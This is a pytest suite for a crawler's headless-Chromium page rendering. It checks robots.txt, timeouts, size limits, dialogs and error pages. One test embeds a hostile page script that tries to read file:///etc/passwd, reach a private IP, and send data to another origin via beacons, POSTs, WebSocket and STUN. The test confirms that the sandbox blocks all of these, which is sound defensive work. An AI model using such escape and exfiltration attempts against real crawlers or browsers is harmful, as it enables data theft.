"""Pages whose text their own scripts write: a real Chromium, which reaches nothing that the crawl would not."""

from __future__ import annotations

import json
import os
import shutil
import socket
from collections.abc import Callable
from dataclasses import replace

import pytest
from faulty_site import FAST, HOST, Answer, Site, article, conditional, html, redirect

from spiders import browser as rendering
from spiders.browser import executable
from spiders.report import SourceReport
from storage.model import Source, SourceKind
from storage.store import open_store

pytest.importorskip("playwright", reason="needs the extra claimwatch[browser]")
pytestmark = pytest.mark.skipif(
    not (executable() and (shutil.which(executable()) or os.path.exists(executable()))),  # noqa: PTH110
    reason="no Chromium here; install one, or name it in CLAIMWATCH_CHROMIUM",
)

Run = Callable[..., list[SourceReport]]

JSON = {"Content-Type": "application/json"}
SCRIPT = {"Content-Type": "text/javascript"}


def words(people: int = 240) -> list[str]:
    return [
        f"The quarry works in the valley will employ {people} people when they open next spring, said a spokeswoman.",
        "Neighbours asked for a second road, and three letters about noise were read aloud before the vote on Monday.",
    ]


def shell(script: str) -> Answer:
    """A page without a word of its own."""
    return html(f"<main><article id=story></article></main><script>{script}</script>", "<title>The Courier</title>")


SHOW = """const show = paragraphs => { document.getElementById("story").innerHTML =
  "<h1>Works open in the valley</h1>" + paragraphs.map(each => `<p>${each}</p>`).join(""); };"""
FETCH = f"""{SHOW} fetch("/data.json").then(found => found.json()).then(show);"""


def scripted(url: str, **more: object) -> Source:
    return Source(url, url, SourceKind.PAGE, browser=True, **more)


def text(database: str) -> str:
    with open_store(database) as store:
        return "\n".join(each.article.text for each in store.pending(10))


def with_data(site: Site, script: str = FETCH) -> None:
    site["/a"], site["/data.json"] = shell(script), Answer(json.dumps(words()).encode(), 200, JSON)


def test_what_a_pages_scripts_write_is_read(site: Site, run: Run, database: str) -> None:
    with_data(site)
    (plain,) = run(site.url("/a"))
    assert plain.failed == 1
    (shown,) = run(scripted(site.url("/a")))
    assert (shown.new, shown.errors) == (1, ())
    assert "will employ 240 people" in text(database)
    agents = {headers["User-Agent"] for path, headers, _ in site.asked if path == "/data.json"}
    assert len(agents) == 1
    assert agents.pop().startswith("claimwatch/")


def test_new_data_behind_the_same_page_are_a_revision(site: Site, run: Run) -> None:
    with_data(site)
    site["/a"] = conditional(shell(FETCH), '"v1"')
    assert run(scripted(site.url("/a")))[0].new == 1
    assert run(scripted(site.url("/a")))[0].unchanged == 1
    site["/data.json"] = Answer(json.dumps(words(310)).encode(), 200, JSON)
    assert run(scripted(site.url("/a")))[0].revised == 1


def test_nothing_that_the_gate_refuses_is_reached(site: Site, other_site: Site, run: Run, database: str) -> None:
    secret = other_site.url("/secret.json")
    for path in ("/secret.json", "/secret.js", "/frame", "/secret.png", "/away", "/sent"):
        other_site[path] = Answer(json.dumps(words()).encode(), 200, {**JSON, "Access-Control-Allow-Origin": "*"})
    site["/jump"] = redirect(secret)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stun, socket.socket() as listener:
        stun.bind((HOST, 0))
        stun.settimeout(0.05)
        listener.bind((HOST, 0))
        listener.listen()
        listener.settimeout(0.05)
        tricks = f"""{SHOW} show({json.dumps(words())});
          const there = {json.dumps(other_site.origin)};
          for (const url of [there + "/secret.json", "/jump", "file:///etc/passwd", "http://10.0.0.1/"])
            fetch(url).then(found => found.text()).then(got => show(["The page has read " + got])).catch(() => 0);
          document.head.append(Object.assign(document.createElement("script"), {{src: there + "/secret.js"}}));
          document.body.append(Object.assign(document.createElement("iframe"), {{src: there + "/frame"}}));
          document.body.append(Object.assign(document.createElement("iframe"), {{src: "file:///etc/passwd"}}));
          new Image().src = there + "/secret.png";
          navigator.sendBeacon(there + "/sent", "x");
          fetch(there + "/sent", {{method: "POST", body: "x"}}).catch(() => 0);
          new WebSocket("ws://{HOST}:{listener.getsockname()[1]}/");
          const peer = new RTCPeerConnection({{iceServers: [{{urls: "stun:{HOST}:{stun.getsockname()[1]}"}}]}});
          peer.createDataChannel("x"); peer.createOffer().then(offer => peer.setLocalDescription(offer));
          if (navigator.serviceWorker) navigator.serviceWorker.register("/worker.js").catch(() => 0);
          window.open(there + "/away");
          setTimeout(() => {{ location.href = there + "/away"; }}, 50);"""
        site["/a"] = shell(tricks)
        (report,) = run(scripted(site.url("/a")), policy=replace(FAST, allow_private=(site.origin[7:],)))
        assert (report.new, report.errors) == (1, ())
        assert other_site.asked == []
        with pytest.raises(TimeoutError):
            listener.accept()
        with pytest.raises(TimeoutError):
            stun.recv(1)
    assert "/worker.js" not in site.paths()
    assert "has read" not in text(database)


def test_robots_txt_holds_for_a_pages_parts_too(site: Site, run: Run) -> None:
    with_data(site)
    site["/robots.txt"] = Answer(b"User-agent: *\nDisallow: /data.json\n")
    (report,) = run(scripted(site.url("/a")))
    assert report.failed == 1
    assert "/data.json" not in site.paths()


def test_pictures_and_styles_are_not_asked_for_and_a_shared_script_once(site: Site, run: Run) -> None:
    site["/lib.js"] = Answer(SHOW.encode(), 200, SCRIPT)
    for name in "abc":
        body = f"<article id=story></article><link rel=stylesheet href=/x.css><img src=/x.png><script src=/lib.js></script><script>show({json.dumps(words(ord(name)))})</script>"
        site[f"/{name}"] = html(body, "<title>The Courier</title>")
    reports = run(*(scripted(site.url(f"/{name}")) for name in "abc"))
    assert [report.new for report in reports] == [1, 1, 1]
    assert not {"/x.css", "/x.png"} & set(site.paths())
    assert site.paths().count("/lib.js") <= 2  # two pages at once may both ask


def test_dialogs_and_downloads_hold_nothing_up(site: Site, run: Run) -> None:
    save = (
        'const link = document.createElement("a"); link.href = "data:text/plain,x"; link.download = "x"; link.click();'
    )
    site["/a"] = shell(f"alert('Subscribe!'); confirm('Sure?'); {save} {SHOW} show({json.dumps(words())});")
    assert run(scripted(site.url("/a")))[0].new == 1


def test_a_script_that_never_ends_costs_its_own_page_only(site: Site, run: Run, monkeypatch) -> None:
    monkeypatch.setattr(rendering, "SECONDS", 4.0)
    monkeypatch.setattr(rendering, "AT_ONCE", 1)
    with_data(site)
    site["/endless"] = shell("while (true) {}")
    endless, good = run(scripted(site.url("/endless")), scripted(site.url("/a")))
    assert endless.errors == (f"{site.url('/endless')}: took longer than 4 seconds to render",)
    assert good.new == 1


def test_a_page_that_grows_without_end_is_left(site: Site, run: Run) -> None:
    site["/a"] = shell('document.body.append("x".repeat(9 * 2 ** 20));')
    assert run(scripted(site.url("/a")))[0].errors == (f"{site.url('/a')}: larger than 8 MiB",)


def test_an_error_page_is_not_rendered(site: Site, run: Run) -> None:
    site["/a"] = replace(article("Not here", *words()), status=403)
    site["/data.json"] = Answer(b"[]", 200, JSON)
    assert "HTTP 403 forbidden" in run(scripted(site.url("/a")))[0].errors[0]


def test_without_a_chromium_the_line_says_so(site: Site, run: Run, monkeypatch) -> None:
    monkeypatch.setenv("CLAIMWATCH_CHROMIUM", "/nowhere/chromium")
    with_data(site)
    (report,) = run(scripted(site.url("/a")))
    assert "no Chromium found" in report.errors[0]
